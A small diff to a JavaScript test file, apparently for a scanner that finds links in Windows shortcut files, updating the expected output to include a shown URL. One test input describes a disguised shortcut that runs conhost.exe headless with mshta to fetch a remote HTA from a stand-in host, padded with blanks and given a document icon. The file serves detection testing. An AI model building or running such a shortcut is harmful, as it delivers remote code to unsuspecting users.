@@ -25,7 +25,7 @@ describe('shell links', () => {
       'it is a shortcut, which starts conhost.exe with “--headless mshta https://a.example.net/x.hta”, which stand behind 300 blanks, under the icon of a document',
       'it starts conhost.exe',
     ])
-    expect(found.links).toEqual([{ url: 'https://a.example.net/x.hta' }])
+    expect(found.links).toEqual([{ url: 'https://a.example.net/x.hta', shown: 'https://a.example.net/x.hta' }])
   })
 
   test('M14 a target and an icon on another host are evidence', async () => {
